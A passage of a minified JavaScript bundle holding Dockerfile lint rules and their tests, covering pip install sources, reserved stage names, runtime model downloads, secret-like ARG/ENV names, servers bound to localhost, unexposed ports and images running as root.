`,expect:[]},{name:"no index at all",input:`FROM python:3.12
RUN pip install --no-index --find-links /wheels sklearn
`,expect:[]},{name:"pip uninstall is not an install",input:`FROM python:3.12
RUN pip uninstall -y sklearn
`,expect:[]},{name:"a local path",input:`FROM python:3.12
RUN pip install ./sklearn
`,expect:[]}]},Om=Q1;var eS={id:"RedundantTargetPlatform",language:"dockerfile",severity:"info",compat:{buildkit:"RedundantTargetPlatform"},docs:{summary:"`FROM --platform=$TARGETPLATFORM` is redundant: that is already the default.",why:"Stages are built for the target platform unless told otherwise; the flag adds noise and suggests a cross-build setup that is not there.",bad:`FROM --platform=$TARGETPLATFORM alpine:3.19
`,good:`FROM alpine:3.19
`},check({model:n,report:e}){let t=Rn(n);for(let s of n.stages){let i=Te(n,s).platform;if(!i||!i.includes("$"))continue;let r=it(i,t,n.escape),o=r.refs.filter(u=>u.found);if(r.error||o.length!==1||r.refs.length!==1||o[0].name!=="TARGETPLATFORM"||r.result!==t("TARGETPLATFORM"))continue;let c=s.platformFlag?.getRange(),l=c&&c.start.line===c.end.line?[{title:"Remove --platform",preferred:!0,edits:[{range:{start:c.start,end:{line:c.end.line,character:c.end.character+(/^[ \t]/.test(n.lines.lineText(c.end.line).slice(c.end.character))?1:0)}},newText:""}]}]:void 0;e({message:`Setting platform to predefined ${i} in FROM is redundant as this is the default behavior`,range:c&&c.start.line===s.fromInstruction.range.start.line?c:s.fromInstruction.range,fixes:l})}},tests:[{name:"$TARGETPLATFORM",input:`FROM --platform=$TARGETPLATFORM scratch
`,expect:[{line:1,col:6,message:"predefined $TARGETPLATFORM"}],fixed:`FROM scratch
`},{name:"${TARGETPLATFORM}",input:"FROM --platform=${TARGETPLATFORM} scratch AS a\n",expect:[{line:1,message:"${TARGETPLATFORM}"}],fixed:`FROM scratch AS a
`},{name:"$BUILDPLATFORM is meaningful",input:`FROM --platform=$BUILDPLATFORM golang:1.22
`,expect:[]},{name:"quoted value (the builder removes the quotes)",input:`FROM --platform="$TARGETPLATFORM" scratch
`,expect:[{line:1,col:6,message:"predefined $TARGETPLATFORM in FROM"}],fixed:`FROM scratch
`},{name:"combined values",input:`FROM --platform=$TARGETOS/$TARGETARCH scratch
`,expect:[]},{name:"check=skip",input:`
# check=skip=RedundantTargetPlatform
FROM --platform=$TARGETPLATFORM scratch
`,expect:[]}]},Sm=eS;var tS=new Set(["scratch","context"]),nS={id:"ReservedStageName",language:"dockerfile",severity:"warning",compat:{buildkit:"ReservedStageName"},docs:{summary:"Stage names should not be `scratch` or `context`, which BuildKit reserves.",why:"`scratch` is the empty image and `context` names the build context: a stage with one of these names makes `FROM scratch` or `--from=context` ambiguous.",bad:`FROM alpine AS scratch
RUN touch /a
`,good:`FROM alpine AS base
RUN touch /a
`},check({model:n,report:e}){for(let t of n.stages){let s=t.name?.toLowerCase();!s||!tS.has(s)||e({message:`Stage name should not use the same name as reserved stage "${s}"`,range:t.nameRange??t.fromInstruction.keywordRange})}},tests:[{name:"scratch and context",input:`FROM scratch AS scratch
FROM scratch AS context
`,expect:[{line:1,message:'"scratch"'},{line:2,message:'"context"'}]},{name:"case-insensitive",input:`FROM alpine AS Context
`,expect:[{line:1}]},{name:"using scratch as base is fine",input:`FROM scratch
FROM scratch AS a
`,expect:[]}]},Mm=nS;function ti(n){return n.memoize("serving:commands",()=>{let e=ft(n),t,s;for(let i of e){for(let r=i.instructions.length-1;r>=0;r--){let o=i.instructions[r];o.keyword==="ENTRYPOINT"?t??=o:o.keyword==="CMD"&&(s??=o)}if(t&&s)break}return[t,s].filter(i=>!!i)})}var sS=new Set(["sh","bash","dash","ash","zsh"]),Am=/^(?:&&|\|\||;|\||&)$/;function iS(n){let e=[],t=0;for(;t<n.length;){for(;t<n.length&&/\s/.test(n[t]);)t++;if(t>=n.length)break;let s=t,i=/^(?:&&|\|\||;|\||&)/.exec(n.slice(t));if(i){e.push({value:i[0],start:s,end:t+i[0].length,dynamic:!1}),t+=i[0].length;continue}let r="",o=!1;for(;t<n.length&&!/\s/.test(n[t])&&!/[;&|]/.test(n[t]);){let a=n[t];if(a==="'"||a==='"'){let c=n.indexOf(a,t+1),l=n.slice(t+1,c<0?n.length:c);a==='"'&&/[$`]/.test(l)&&(o=!0),r+=l,t=c<0?n.length:c+1}else(a==="$"||a==="`")&&(o=!0),a==="\\"&&t+1<n.length&&t++,r+=n[t],t++}e.push({value:r,start:s,end:t,dynamic:o})}return e}function go(n,e){return n.memoizeAt("serving:words",e.index,()=>{let t=re(n,e),s=Ne(n,e),i=[],r=(c,l,u)=>{for(let p of iS(c))i.push({value:p.value,dynamic:p.dynamic,range:l(p.start,p.end)??u})};if(s.kind==="json"){let c=s.elements;for(let l=0;l<c.length;l++){let u=c[l],p=X(n,t.line,u.start,u.end),d=i[i.length-1];if(l>0&&d?.value==="-c"&&i.length>=2&&sS.has(Xe(i[i.length-2].value))){let m=t.line.text.slice(u.start+1,u.end-1)===u.value;r(u.value,(g,w)=>m?X(n,t.line,u.start+1+g,u.start+1+w):void 0,p)}else i.push({value:u.value,range:p,dynamic:!1})}return i}if(s.kind!=="shell")return i;let a=t.line.text.slice(t.restStart);return r(a,(c,l)=>X(n,t.line,t.restStart+c,t.restStart+l),e.range),i})}var rS=/^python(\d+(\.\d+)*)?$/;function as(n,e,t){let s=n[e].value;for(let i of t){if(s===i&&n[e+1])return{value:n[e+1].value,word:n[e+1],next:e+1};if(i.startsWith("--")&&s.startsWith(i+"="))return{value:s.slice(i.length+1),word:n[e],next:e};if(/^-[A-Za-z]$/.test(i)&&s.startsWith(i)&&s.length>2&&!s.startsWith("--"))return{value:s.slice(2),word:n[e],next:e}}}function oS(n){if(/^(unix|fd):/i.test(n))return;let e=/^\[([^\]]*)\](?::(\d+))?$/.exec(n);if(e)return{host:e[1],port:e[2]};let t=n.lastIndexOf(":");return t<0?{host:n}:{host:n.slice(0,t),port:n.slice(t+1)}}function aS(n,e){let t=Xe(n[e].value);if(t==="gunicorn"||t==="uvicorn"||t==="hypercorn")return{kind:t,name:n[e],argsFrom:e+1};if(t==="flask"){let s=n.findIndex((i,r)=>r>e&&i.value==="run");return s>e?{kind:"flask",name:n[e],argsFrom:s+1}:void 0}if(t==="jupyter"&&/^(notebook|lab|server)$/.test(n[e+1]?.value??""))return{kind:"jupyter",name:n[e],argsFrom:e+2};if(t==="jupyter-notebook"||t==="jupyter-lab")return{kind:"jupyter",name:n[e],argsFrom:e+1};if(t==="streamlit"&&n[e+1]?.value==="run")return{kind:"streamlit",name:n[e],argsFrom:e+2};if(rS.test(t)){let s=n[e+1]?.value==="-m"?e+2:-1,i=s>0?n[s]?.value:void 0;if(i==="gunicorn"||i==="uvicorn"||i==="hypercorn")return{kind:i,name:n[s],argsFrom:s+1};if(i==="flask"&&n[s+1]?.value==="run")return{kind:"flask",name:n[s],argsFrom:s+2};if(i==="http.server")return{kind:"http.server",name:n[s],argsFrom:s+1};if(i==="streamlit"&&n[s+1]?.value==="run")return{kind:"streamlit",name:n[s],argsFrom:s+2};if((i==="notebook"||i==="jupyterlab")&&s>0)return{kind:"jupyter",name:n[s],argsFrom:s+1}}}function cS(n,e){let{kind:t}=e,s={kind:t,nameWord:e.name,words:[e.name],hostEnv:[],portEnv:[],socket:!1,hostGiven:!1,portGiven:!1},i=(a,c)=>{s.hostGiven=!0,!c.dynamic&&!a.includes("$")&&(s.host={value:a,word:c})},r=(a,c)=>{s.portGiven=!0,!c.dynamic&&/^\d+$/.test(a)&&(s.port={value:Number(a),word:c})},o=0;for(let a=e.argsFrom;a<n.length;a++){let c=n[a];if(Am.test(c.value))break;if(s.words.push(c),t==="gunicorn"||t==="hypercorn"){let l=as(n,a,["-b","--bind"]);if(l){for(let p=a+1;p<=l.next;p++)s.words.push(n[p]);a=l.next;let u=oS(l.value);u?!s.host&&!s.port&&(i(u.host,l.word),u.port!==void 0?r(u.port,l.word):s.portGiven=!0):s.socket=!0;continue}(/^--(uds|fd)$|^--(uds|fd)=|^--insecure-bind|^-c$|^--config(=|$)/.test(c.value)||t==="gunicorn"&&c.value.startsWith("--paste"))&&(s.socket=!0)}else if(t==="uvicorn"||t==="flask"){let l=as(n,a,t==="flask"?["--host","-h"]:["--host"]),u=as(n,a,t==="flask"?["--port","-p"]:["--port"]),p=l??u;if(p){for(let d=a+1;d<=p.next;d++)s.words.push(n[d]);a=p.next,l?i(l.value,l.word):u&&r(u.value,u.word);continue}/^--(uds|fd)(=|$)/.test(c.value)&&(s.socket=!0)}else if(t==="jupyter"||t==="streamlit"){let l=t==="jupyter"?["--ip","--NotebookApp.ip","--ServerApp.ip"]:["--server.address"],u=t==="jupyter"?["--port","--NotebookApp.port","--ServerApp.port"]:["--server.port"],p=as(n,a,l),d=as(n,a,u),f=p??d;if(f){for(let h=a+1;h<=f.next;h++)s.words.push(n[h]);a=f.next,p?i(p.value,p.word):d&&r(d.value,d.word)}}else if(t==="http.server"){let l=as(n,a,["-b","--bind"]);if(l){for(let u=a+1;u<=l.next;u++)s.words.push(n[u]);a=l.next,i(l.value,l.word);continue}!c.value.startsWith("-")&&o++===0&&r(c.value,c)}}return t==="uvicorn"&&Object.assign(s,{defaultHost:"127.0.0.1",defaultPort:8e3,hostEnv:["UVICORN_HOST"],portEnv:["UVICORN_PORT"]}),t==="flask"&&Object.assign(s,{defaultHost:"127.0.0.1",defaultPort:5e3,hostEnv:["FLASK_RUN_HOST"],portEnv:["FLASK_RUN_PORT"]}),t==="http.server"&&Object.assign(s,{defaultHost:"0.0.0.0",defaultPort:8e3}),s}function $l(n){return n.memoize("serving:line",()=>{let e=ti(n),t=e.find(o=>o.keyword==="ENTRYPOINT"),s=e.find(o=>o.keyword==="CMD"),i=[],r=new Set([0]);return t&&i.push(...go(n,t)),s&&(!t||Ne(n,t).kind==="json")&&(r.add(i.length),i.push(...go(n,s))),{words:i,starts:r}})}function cs(n){return n.memoize("serving:servers",()=>{let e=[],{words:t,starts:s}=$l(n);for(let i=0;i<t.length;i++){let r=i>0?Xe(t[i-1].value):"",o=s.has(i)||Am.test(r)||r==="exec"||r==="run",a=/^(tini|dumb-init|--|gosu|su-exec|opentelemetry-instrument|ddtrace-run|newrelic-admin)$/.test(r);if(!o&&!a)continue;let c=aS(t,i);if(c){let l=cS(t,c);e.push(l),i=t.indexOf(l.words[l.words.length-1])}}return e})}function yo(n){return n.memoize("serving:env",()=>{let e=new Set;for(let t of ft(n))for(let s of t.instructions)if(!(s.keyword!=="ENV"&&s.keyword!=="ARG"))for(let i of Ye(n,s).pairs)e.add(st(i.key,n.escape));return e})}function Cl(n){let e=n.toLowerCase().replace(/^\[|\]$/g,"");return e==="localhost"||e==="::1"||/^127\.\d+\.\d+\.\d+$/.test(e)||e==="ip6-localhost"}var lS=/\.(bin|pt|pth|onnx|safetensors|gguf|ggml|ckpt|h5|keras|pb|tflite|mar|pkl|joblib|npz|parquet|tar\.gz|tgz|zip)(\?.*)?$/i,Nm=/^(?:&&|\|\||;|\||&)$/;function uS(n,e){let t=Xe(n[e].value),s=n[e+1]?.value,i=()=>{let r=[];for(let o=e+1;o<n.length&&!Nm.test(n[o].value);o++)r.push(n[o]);return r};if((t==="huggingface-cli"||t==="hf")&&s==="download")return`${t} download`;if((t==="wget"||t==="curl")&&i().some(r=>/^(https?|ftp):\/\//.test(r.value)&&lS.test(r.value)))return t;if(t==="gsutil"&&/^(cp|rsync)$/.test(s??"")&&i().some(r=>r.value.startsWith("gs://")))return`gsutil ${s}`;if(t==="aws"&&s==="s3"&&/^(cp|sync)$/.test(n[e+2]?.value??"")&&i().some(r=>r.value.startsWith("s3://")))return`aws s3 ${n[e+2].value}`;if(t==="dvc"&&s==="pull")return"dvc pull";if(t==="kaggle"&&/^(datasets|competitions|models)$/.test(s??"")&&n[e+2]?.value==="download")return`kaggle ${s} download`}var pS={id:"RuntimeModelDownload",language:"dockerfile",severity:"warning",docs:{summary:"CMD or ENTRYPOINT should not download model weights or data sets at every start without a VOLUME to keep them.",why:"A download in the command runs each time a container starts: every restart, every replica and every scale-up fetches the same gigabytes again, starts minutes late, and fails when the hub or bucket is unreachable or rate limits. Download at build time (a RUN, with a `--mount=type=secret` for the token) so the weights are part of the image, or declare a VOLUME for the download directory so a mounted volume keeps them between runs. Seen: `huggingface-cli download` / `hf download`, `wget` or `curl` of a weights, data or archive file, `gsutil cp`, `aws s3 cp|sync`, `dvc pull`, `kaggle \u2026 download`, written in the final image's CMD or ENTRYPOINT (a script they call is not read). Any VOLUME in the final image counts as a cache.",bad:`FROM python:3.12-slim
RUN pip install --no-cache-dir "huggingface_hub[cli]==0.26.2" vllm==0.6.3
CMD ["sh", "-c", "huggingface-cli download org/model --local-dir /models && vllm serve /models"]
`,good:`FROM python:3.12-slim
RUN pip install --no-cache-dir "huggingface_hub[cli]==0.26.2" vllm==0.6.3
VOLUME /models
CMD ["sh", "-c", "huggingface-cli download org/model --local-dir /models && vllm serve /models"]
`},check({model:n,report:e}){for(let i of ft(n))if(i.instructions.some(r=>r.keyword==="VOLUME"))return;let{words:t,starts:s}=$l(n);for(let i=0;i<t.length;i++){if(!s.has(i)&&!Nm.test(t[i-1].value)&&!/^(exec|-c)$/.test(t[i-1].value))continue;let r=uS(t,i);if(!r)continue;let o=t[i].range.start.line,a=ti(n).find(c=>c.range.start.line<=o&&o<=c.range.end.line);e({message:`\`${r}\` in ${a?.keyword??"CMD"} downloads at every container start and no VOLUME keeps the files: download in a RUN at build time, or declare a VOLUME for them`,range:t[i].range});return}},tests:[{name:"huggingface-cli download in sh -c",input:`FROM python:3.12
CMD ["sh", "-c", "huggingface-cli download org/m --local-dir /models && python serve.py"]
`,expect:[{line:2,col:19,message:"`huggingface-cli download` in CMD downloads at every container start and no VOLUME keeps the files"}]},{name:"wget of weights in a shell-form ENTRYPOINT",input:`FROM python:3.12
ENTRYPOINT wget -q https://example.com/weights/model.safetensors -O /m.safetensors && exec python app.py
`,expect:[{line:2,col:12,message:"`wget` in ENTRYPOINT"}]},{name:"a VOLUME keeps them",input:`FROM python:3.12
VOLUME ["/root/.cache/huggingface"]
CMD hf download org/m && python app.py
`,expect:[]},{name:"downloaded at build time",input:`FROM python:3.12
RUN huggingface-cli download org/m --local-dir /models
CMD ["python", "serve.py"]
`,expect:[]},{name:"a health check with curl is not a download",input:`FROM python:3.12
CMD curl -fsS http://localhost:8000/health && python app.py
`,expect:[]},{name:"aws s3 sync",input:`FROM python:3.12
CMD aws s3 sync s3://bucket/model /model && python app.py
`,expect:[{line:2,col:5,message:"`aws s3 sync`"}]},{name:"only the final image",input:`FROM python:3.12 AS fetch
CMD dvc pull
FROM python:3.12
CMD ["python", "app.py"]
`,expect:[]},{name:"CMD is ignored after a shell-form ENTRYPOINT",input:`FROM python:3.12
ENTRYPOINT exec python app.py
CMD hf download org/m
`,expect:[]},{name:"an argument named like the tool",input:`FROM python:3.12
CMD ["python", "app.py", "huggingface-cli", "download"]
`,expect:[]}]},Em=pS;var dS=/(?:_|^)(?:apikey|auth|credential|credentials|key|password|pword|passwd|secret|token)(?:_|$)/i,fS=/(?:_|^)(?:public|file|version)(?:_|$)/i;function hS(n){return dS.test(n)&&!fS.test(n)}var mS={id:"SecretsUsedInArgOrEnv",language:"dockerfile",severity:"warning",compat:{buildkit:"SecretsUsedInArgOrEnv"},docs:{summary:"ARG and ENV should not carry secrets (names like `*_TOKEN`, `PASSWORD`, `API_KEY`).",why:"ARG and ENV values are stored in the image metadata and build history, where anyone who can pull the image can read them; use `RUN --mount=type=secret` instead.",bad:`FROM node:20
ARG NPM_TOKEN
RUN echo "//registry.npmjs.org/:_authToken=$NPM_TOKEN" > .npmrc && npm ci
`,good:`FROM node:20
RUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci
`},check({model:n,report:e}){for(let t of n.instructions)if(!(t.keyword!=="ARG"&&t.keyword!=="ENV"))for(let s of Ye(n,t).pairs){let i=st(s.key,n.escape);hS(i)&&e({message:`Do not use ARG or ENV instructions for sensitive data (${t.keyword} "${i}")`,range:t.range})}},tests:[{name:"BuildKit's examples",input:`FROM scratch
ARG SECRET_PASSPHRASE
ENV SUPER_Secret=foo
ENV password=bar secret=baz
ARG super_duper_secret_token=foo auth=bar
ENV apikey=bar sunflower=foo
ENV git_key=
ENV PUBLIC_KEY=
ARG public_token
ARG SECRET_PASSPHRASE_FILE
ENV password_file=bar secret_File=baz
ARG AUTH_MODULE_VERSION
`,expect:[{line:2,message:'ARG "SECRET_PASSPHRASE"'},{line:3,message:'ENV "SUPER_Secret"'},{line:4,message:'"password"'},{line:4,message:'"secret"'},{line:5,message:'"super_duper_secret_token"'},{line:5,message:'"auth"'},{line:6,message:'"apikey"'},{line:7,message:'"git_key"'}]},{name:"legacy ENV form",input:`FROM scratch
ENV GITHUB_TOKEN abc
`,expect:[{line:2}]},{name:"ordinary names",input:`FROM scratch
ARG VERSION
ENV PATH=/x KEYBOARD=us TOKENIZER=x MONKEY=1
`,expect:[]},{name:"local check=skip",input:`FROM scratch
# check=skip=SecretsUsedInArgOrEnv // allowed
ARG password
`,expect:[]}]},_m=mS;function gS(n,e,t){let s=n.textOf(e.range),i=s.indexOf(t);if(i<0||s.indexOf(t,i+1)>=0||e.range.start.line!==e.range.end.line)return;let r={line:e.range.start.line,character:e.range.start.character+i},o={line:r.line,character:r.character+t.length};return[{title:"Listen on every interface (0.0.0.0)",edits:[{range:{start:r,end:o},newText:"0.0.0.0"}]}]}var yS={id:"ServerBindsLocalhost",language:"dockerfile",severity:"warning",docs:{summary:"A web server started by the image should not listen on 127.0.0.1 or localhost only.",why:"Inside a container, 127.0.0.1 is the container's own loopback: `docker run -p 8000:8000` forwards to the container's network interface, so a server bound to localhost is unreachable from outside and every request fails with \"connection reset\". uvicorn and `flask run` listen on 127.0.0.1 unless told otherwise (`--host`, or `UVICORN_HOST` / `FLASK_RUN_HOST` in the image's ENV), so starting them without `--host` is reported too. A warning, not an error: with `--network host`, or for a sidecar sharing a Kubernetes pod's network, binding to localhost is deliberate and works. Servers started from a script, or configured by a file (`gunicorn -c`, jupyter's config), are not seen.",bad:`FROM python:3.12-slim
RUN pip install --no-cache-dir fastapi==0.115.0 uvicorn==0.30.6
COPY app.py .
CMD ["uvicorn", "app:app", "--port", "8000"]
`,good:`FROM python:3.12-slim
RUN pip install --no-cache-dir fastapi==0.115.0 uvicorn==0.30.6
COPY app.py .
CMD ["uvicorn", "app:app", "--host", "0.0.0.0", "--port", "8000"]
`},check({model:n,report:e}){let t=yo(n);for(let s of cs(n)){if(s.socket)continue;let i=s.kind==="flask"?"flask run":s.kind;if(s.host){if(!Cl(s.host.value))continue;e({message:`${i} listens on ${s.host.value}, which is unreachable from outside the container: listen on 0.0.0.0`,range:s.host.word.range,fixes:gS(n,s.host.word,s.host.value)})}else if(!s.hostGiven&&s.defaultHost&&Cl(s.defaultHost)&&!s.hostEnv.some(r=>t.has(r))){let r=s.kind==="flask"?"--host=0.0.0.0":"--host 0.0.0.0";e({message:`${i} listens on ${s.defaultHost} by default, which is unreachable from outside the container: add ${r}`,range:s.nameWord.range})}}},tests:[{name:"gunicorn bound to 127.0.0.1 (exec form)",input:`FROM python:3.12
CMD ["gunicorn", "-b", "127.0.0.1:8000", "app:app"]
`,expect:[{line:2,col:24,message:"gunicorn listens on 127.0.0.1, which is unreachable from outside the container: listen on 0.0.0.0"}],fixed:`FROM python:3.12
CMD ["gunicorn", "-b", "0.0.0.0:8000", "app:app"]
`},{name:"uvicorn --host=localhost (shell form)",input:`FROM python:3.12
CMD uvicorn main:app --host=localhost --port 80
`,expect:[{line:2,col:22,message:"uvicorn listens on localhost"}],fixed:`FROM python:3.12
CMD uvicorn main:app --host=0.0.0.0 --port 80
`},{name:"uvicorn without --host listens on 127.0.0.1",input:`FROM python:3.12
ENTRYPOINT ["uvicorn", "main:app"]
`,expect:[{line:2,col:13,message:"uvicorn listens on 127.0.0.1 by default, which is unreachable from outside the container: add --host 0.0.0.0"}]},{name:"flask run without --host",input:`FROM python:3.12
CMD ["python", "-m", "flask", "run", "--port", "5000"]
`,expect:[{line:2,col:22,message:"flask run listens on 127.0.0.1 by default"}]},{name:"FLASK_RUN_HOST set in the image",input:`FROM python:3.12
ENV FLASK_RUN_HOST=0.0.0.0
CMD ["flask", "run"]
`,expect:[]},{name:"UVICORN_HOST set in a parent stage",input:`FROM python:3.12 AS base
ENV UVICORN_HOST=0.0.0.0
FROM base
CMD uvicorn main:app
`,expect:[]},{name:"jupyter --ip=127.0.0.1 inside sh -c",input:`FROM python:3.12
CMD ["sh", "-c", "pip list && jupyter lab --ip=127.0.0.1 --no-browser"]
`,expect:[{line:2,col:43,message:"jupyter listens on 127.0.0.1"}],fixed:`FROM python:3.12
CMD ["sh", "-c", "pip list && jupyter lab --ip=0.0.0.0 --no-browser"]
`},{name:"every interface",input:`FROM python:3.12
CMD ["gunicorn", "--bind", "0.0.0.0:8000", "app:app"]
`,expect:[]},{name:"gunicorn without -b (a config file or $PORT may set it)",input:`FROM python:3.12
CMD ["gunicorn", "app:app"]
`,expect:[]},{name:"a Unix socket",input:`FROM python:3.12
CMD ["uvicorn", "app:app", "--uds", "/tmp/app.sock"]
`,expect:[]},{name:"a variable host",input:`FROM python:3.12
CMD uvicorn app:app --host "$HOST"
`,expect:[]},{name:"only the final image counts",input:`FROM python:3.12 AS dev
CMD ["uvicorn", "app:app"]
FROM python:3.12
CMD ["python", "job.py"]
`,expect:[]},{name:"the last CMD counts",input:`FROM python:3.12
CMD ["uvicorn", "app:app"]
CMD ["uvicorn", "app:app", "--host", "0.0.0.0"]
`,expect:[]},{name:"poetry run uvicorn",input:`FROM python:3.12
CMD ["poetry", "run", "uvicorn", "app:app", "--host", "::1"]
`,expect:[{line:2,message:"uvicorn listens on ::1"}]},{name:'ENTRYPOINT ["uvicorn"] with its options in CMD',input:`FROM python:3.12
ENTRYPOINT ["uvicorn"]
CMD ["app.main:app", "--host", "0.0.0.0"]
`,expect:[]},{name:'ENTRYPOINT ["uvicorn"] and CMD without --host',input:`FROM python:3.12
ENTRYPOINT ["uvicorn"]
CMD ["app.main:app", "--port", "80"]
`,expect:[{line:2,col:13,message:"uvicorn listens on 127.0.0.1 by default"}]},{name:"an entrypoint script running CMD",input:`FROM python:3.12
ENTRYPOINT ["/docker-entrypoint.sh"]
CMD ["gunicorn", "-b", "localhost:80", "app:app"]
`,expect:[{line:3,col:24,message:"gunicorn listens on localhost"}]},{name:"a shell-form ENTRYPOINT ignores CMD",input:`FROM python:3.12
ENTRYPOINT exec python serve.py
CMD ["uvicorn", "app:app"]
`,expect:[]},{name:"http.server listens everywhere by default",input:`FROM python:3.12
CMD ["python3", "-m", "http.server", "8000"]
`,expect:[]}]},$m=yS;function bS(n){let e=new Set,t=[];for(let s of ft(n))for(let i of s.instructions)if(i.keyword==="EXPOSE")for(let r of i.argValues){if(r.includes("$"))return;let o=/^(?:.*:)?(\d+)(?:-(\d+))?(?:\/(\w+))?$/.exec(r);if(!o||o[3]&&o[3].toLowerCase()!=="tcp")continue;t.push(r);let a=Number(o[1]),c=o[2]?Number(o[2]):a;for(let l=a;l<=c&&l-a<65536;l++)e.add(l)}return{ports:e,written:t}}var wS={id:"ServerPortNotExposed",language:"dockerfile",severity:"warning",docs:{summary:"The port a web server in CMD or ENTRYPOINT listens on should be one the image EXPOSEs.",why:"EXPOSE tells `docker run -P`, Compose readers and orchestrators which port the service uses. When the server listens on 8000 but the image EXPOSEs 5000, `-P` publishes a port nobody answers on and whoever reads the image wires the wrong one. Checked only when the final image EXPOSEs something (EXPOSE is optional) and the port is known: written in the command, or the documented default of uvicorn (8000) and `flask run` (5000) when neither the command nor the image's ENV (`UVICORN_PORT`, `FLASK_RUN_PORT`) sets it.",bad:`FROM python:3.12-slim
RUN pip install --no-cache-dir gunicorn==23.0.0
EXPOSE 5000
CMD ["gunicorn", "-b", "0.0.0.0:8000", "app:app"]
`,good:`FROM python:3.12-slim
RUN pip install --no-cache-dir gunicorn==23.0.0
EXPOSE 8000
CMD ["gunicorn", "-b", "0.0.0.0:8000", "app:app"]
`},check({model:n,report:e}){let t=cs(n);if(!t.length)return;let s=bS(n);if(!s||!s.written.length)return;let i=yo(n);for(let r of t){if(r.socket)continue;let o=r.kind==="flask"?"flask run":r.kind,a=`the image EXPOSEs ${s.written.join(", ")}`;if(r.port){if(s.ports.has(r.port.value))continue;e({message:`${o} listens on port ${r.port.value}, but ${a}`,range:r.port.word.range})}else!r.portGiven&&r.defaultPort!==void 0&&!r.portEnv.some(c=>i.has(c))&&!s.ports.has(r.defaultPort)&&e({message:`${o} listens on port ${r.defaultPort} by default, but ${a}`,range:r.nameWord.range})}},tests:[{name:"gunicorn -b 0.0.0.0:8000 with EXPOSE 5000",input:`FROM python:3.12
EXPOSE 5000
CMD ["gunicorn", "-b", "0.0.0.0:8000", "app:app"]
`,expect:[{line:3,col:24,message:"gunicorn listens on port 8000, but the image EXPOSEs 5000"}]},{name:"the same port",input:`FROM python:3.12
EXPOSE 8000/tcp
CMD gunicorn --bind=0.0.0.0:8000 app:app
`,expect:[]},{name:"a port range",input:`FROM python:3.12
EXPOSE 8000-8010
CMD ["uvicorn", "app:app", "--host", "0.0.0.0", "--port", "8005"]
`,expect:[]},{name:"uvicorn default port",input:`FROM python:3.12
EXPOSE 80
CMD ["uvicorn", "app:app", "--host", "0.0.0.0"]
`,expect:[{line:3,col:6,message:"uvicorn listens on port 8000 by default, but the image EXPOSEs 80"}]},{name:"UVICORN_PORT set",input:`FROM python:3.12
ENV UVICORN_PORT=80
EXPOSE 80
CMD ["uvicorn", "app:app", "--host", "0.0.0.0"]
`,expect:[]},{name:"no EXPOSE at all",input:`FROM python:3.12
CMD ["gunicorn", "-b", "0.0.0.0:8000", "app:app"]
`,expect:[]},{name:"a variable EXPOSE",input:`FROM python:3.12
ARG PORT=8000
EXPOSE $PORT
CMD ["gunicorn", "-b", "0.0.0.0:8000", "app:app"]
`,expect:[]},{name:"a variable port",input:`FROM python:3.12
EXPOSE 80
CMD gunicorn -b 0.0.0.0:$PORT app:app
`,expect:[]},{name:"EXPOSE in the parent stage, jupyter --port",input:`FROM python:3.12 AS base
EXPOSE 8888
FROM base
CMD ["jupyter", "notebook", "--ip=0.0.0.0", "--port=8080"]
`,expect:[{line:4,col:45,message:"jupyter listens on port 8080, but the image EXPOSEs 8888"}]},{name:"a UDP EXPOSE is not the server's",input:`FROM python:3.12
EXPOSE 8000/udp
CMD ["gunicorn", "-b", ":8000", "app:app"]
`,expect:[]},{name:"streamlit --server.port",input:`FROM python:3.12
EXPOSE 8501
CMD streamlit run app.py --server.port 8080 --server.address 0.0.0.0
`,expect:[{line:3,col:40,message:"streamlit listens on port 8080"}]}]},Cm=wS;var vS=new Set(["python","node","debian","ubuntu","alpine","golang","ruby","php","openjdk","eclipse-temurin","amazoncorretto","centos","fedora","rockylinux","almalinux","buildpack-deps","amazonlinux","continuumio/miniconda3","continuumio/anaconda3","condaforge/miniforge3","pytorch/pytorch","tensorflow/tensorflow","nvidia/cuda"]);function kS(n){let e;for(let t of ft(n)){for(let s of t.instructions)s.keyword==="USER"&&(e=s);if(e)return e}}function xS(n){let e=n.stages[n.stages.length-1];if(!e)return!1;let t=os(n,e),s=rt(n).find(i=>i.stage===t);return!s||!s.path||s.stageRef||s.registry&&!/^(docker\.io|index\.docker\.io|registry-1\.docker\.io)$/.test(s.registry)?!1:vS.has(s.path.toLowerCase().replace(/^library\//,""))}var RS={id:"ServingImageRunsAsRoot",language:"dockerfile",severity:"warning",docs:{summary:"An image that serves requests (gunicorn, uvicorn, flask, jupyter\u2026 in CMD or ENTRYPOINT) should not run them as root.",why:"A server facing the network is the part of an image most likely to be attacked; running it as root turns a bug in the application (or a pickle-loading model endpoint) into root in the container. Reported when the final image starts a web server and sets no USER while its base image runs as root (the official language and distribution images, pytorch/pytorch, tensorflow/tensorflow, nvidia/cuda\u2026), or when jupyter is started with `--allow-root`. An explicit `USER root` last is DL3002's finding and is not reported again here; an image that starts no server (a training job, a build tool) is left alone.",bad:`FROM python:3.12-slim
RUN pip install --no-cache-dir gunicorn==23.0.0
COPY . /app
CMD ["gunicorn", "-b", "0.0.0.0:8000", "app:app"]
`,good:`FROM python:3.12-slim
RUN pip install --no-cache-dir gunicorn==23.0.0 && useradd --create-home app
COPY . /app
USER app
CMD ["gunicorn", "-b", "0.0.0.0:8000", "app:app"]
`},check({model:n,report:e}){if(kS(n))return;let s;for(let o of ti(n))s??=go(n,o).find(a=>a.value==="--allow-root");if(s){e({message:"jupyter is started with --allow-root: add a non-root USER and drop --allow-root",range:s.range});return}let i=cs(n)[0];if(!i||!xS(n))return;let r=i.kind==="flask"?"flask run":i.kind;e({message:`The image runs ${r} as root (no USER is set): add a non-root USER before CMD`,range:i.nameWord.range})},tests:[{name:"uvicorn on python with no USER",input:`FROM python:3.12
CMD ["uvicorn", "app:app", "--host", "0.0.0.0"]
`,expect:[{line:2,col:6,message:"The image runs uvicorn as root (no USER is set): add a non-root USER before CMD"}]},{name:"jupyter --allow-root",input:`FROM continuumio/miniconda3
CMD jupyter notebook --ip=0.0.0.0 --allow-root
`,expect:[{line:2,col:35,message:"jupyter is started with --allow-root"}]},{name:"--allow-root on a base image whose user is not known",input:`FROM quay.io/acme/notebook:1
ENTRYPOINT ["jupyter", "lab", "--allow-root"]
`,expect:[{line:2,col:31}]},{name:"a non-root USER",input:`FROM python:3.12
USER 1000
CMD ["gunicorn", "app:app"]
`,expect:[]},{name:"USER root last is DL3002's finding",input:`FROM python:3.12
USER root
CMD ["gunicorn", "app:app"]
`,expect:[]},{name:"USER set in the parent stage",input:`FROM python:3.12 AS base
USER app
FROM base
